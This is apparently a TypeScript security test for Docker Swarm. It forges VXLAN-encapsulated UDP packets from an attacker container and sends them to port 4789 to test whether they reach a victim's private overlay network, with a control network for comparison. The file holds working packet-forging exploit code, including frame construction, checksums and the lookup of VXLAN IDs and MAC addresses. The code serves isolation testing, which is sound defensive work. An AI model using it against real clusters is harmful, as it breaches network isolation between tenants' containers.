import { spawn } from 'node:child_process'
import { toolEnv } from '../../../../lab/tools.ts'
import { until } from '../../../../test-kit/until.ts'
import { acted, composeOf, ended, failureOf, printed, rowsOf } from '../act.ts'
import type { Row, Stage } from '../stage.ts'

const { row, control } = rowsOf('tunnels of the machine')
const PORT = 7007
const WORDS = 'from a stranger'
const LISTEN = `require('dgram').createSocket('udp4').on('message', (m) => console.log('heard ' + m)).bind(${PORT}, () => console.log('ready')); setTimeout(() => process.exit(), 90_000)`

type Endpoint = { id: number; address: string; mac: string }
type Attached = { IPv4Address: string; MacAddress: string; Name: string }

/**
 * Machines of a Swarm send each other what is for their networks to one port, and the kernel takes it from whoever sends.
 * Thrown from a project into the victim's private network, and as a control into a network as the engine makes it by itself.
 */
export async function tunnels(stage: Stage): Promise<Row[]> {
  const { ground, victim, look } = stage
  const { docker, engine, machine } = ground
  await docker('network', 'create', '--driver', 'overlay', '--attachable', 'bare')
  await docker('run', '--detach', '--name', 'bare-ear', '--network', 'bare', look, 'node', '-e', LISTEN)
  const env = toolEnv({ DOCKER_HOST: engine.dockerHost, DOCKER_CONFIG: engine.dockerConfig })
  // Whoever runs the server looks from within the victim's own container.
  const ear = spawn(engine.docker, ['exec', victim.container, 'node', '-e', LISTEN], { env })
  let heard = ''
  ear.stdout.on('data', (bytes) => {
    heard += bytes
  })
  const attacker = await stage.attacker('tunnel')
  try {
    await until('the victim listens', 20_000, async () => heard.includes('ready'))
    await until('the bare one listens', 20_000, async () => (await docker('logs', 'bare-ear')).includes('ready'))
    const packets = [
      ...(await endpoints(stage, victim.network, victim.container)),
      ...(await endpoints(stage, `${victim.network}-edge`, victim.container)),
    ]
    const bare = await endpoints(stage, 'bare', 'bare-ear')
    if (packets.length === 0 || bare.length === 0) return [row('a forged packet', 'no result', 'no tunnel was found')]
    const hosts = [machine.address, ...victim.addresses]
    const script = throwing([...packets, ...bare].map(wrapped), hosts)
    const made = await acted(attacker, composeOf(look, ['node', '-e', script]))
    if (made.id === undefined) return [row('a forged packet', 'no result', made.refused)]
    const failed = failureOf(made.deployment)
    if (failed) return [row('a forged packet', 'no result', failed)]
    await printed(attacker, made.id, 'sent')
    const arrived = await until('arrives where nothing keeps it off', 20_000, async () =>
      (await docker('logs', 'bare-ear')).includes(WORDS),
    ).catch(() => false)
    const got = heard.split(WORDS).length - 1
    return [
      row('a forged packet', got === 0 ? 'harmless' : 'WORKED', `${got} packets in the victim’s network`),
      control('the same packet in a network as the engine makes it', arrived, 'it arrives there'),
    ]
  } finally {
    ear.kill()
    await ended(stage, attacker)
    await docker('rm', '--force', 'bare-ear')
    await docker('network', 'rm', 'bare')
  }
}

async function endpoints({ ground }: Stage, network: string, container: string): Promise<Endpoint[]> {
  const { Options = {}, Containers = {} } = await ground.api.getNetwork(network).inspect()
  const id = Number(Options['com.docker.network.driver.overlay.vxlanid_list'])
  return Object.values(Containers as Record<string, Attached>)
    .filter(({ Name }) => Name === container)
    .map(({ IPv4Address, MacAddress }) => ({ id, address: IPv4Address.split('/')[0] ?? '', mac: MacAddress }))
}

const throwing = (packets: string[], hosts: string[]) => `
const s = require('dgram').createSocket('udp4').on('error', () => {})
const all = ${JSON.stringify(packets)}.flatMap((hex) => ${JSON.stringify(hosts)}.map((host) => [Buffer.from(hex, 'hex'), host]))
let round = 0
setInterval(() => { for (const [packet, host] of all) s.send(packet, 4789, host, () => {}); if (++round === 30) console.log('sent') }, 100)
require('http').createServer((q, r) => r.end('x')).listen(8000)`

const bytes = (text: string, radix: 10 | 16) =>
  Buffer.from(text.split(radix === 10 ? '.' : ':').map((part) => Number.parseInt(part, radix)))

/** A datagram in the wrapping of a tunnel. */
function wrapped({ id, address, mac }: Endpoint): string {
  const datagram = Buffer.concat([
    Buffer.from([0, 9, PORT >> 8, PORT & 255, 0, 8 + WORDS.length, 0, 0]),
    Buffer.from(WORDS),
  ])
  const head = Buffer.from([0x45, 0, 0, 20 + datagram.length, 0, 1, 0, 0, 64, 17, 0, 0])
  const ip = Buffer.concat([head, bytes('198.19.0.9', 10), bytes(address, 10)])
  let sum = 0
  for (let at = 0; at < ip.length; at += 2) sum += ip.readUInt16BE(at)
  ip.writeUInt16BE(~((sum & 0xffff) + (sum >> 16)) & 0xffff, 10)
  const frame = Buffer.concat([bytes(mac, 16), bytes('02:42:c6:13:00:09', 16), Buffer.from([8, 0]), ip, datagram])
  return Buffer.concat([Buffer.from([8, 0, 0, 0, id >> 16, (id >> 8) & 255, id & 255, 0]), frame]).toString('hex')
}
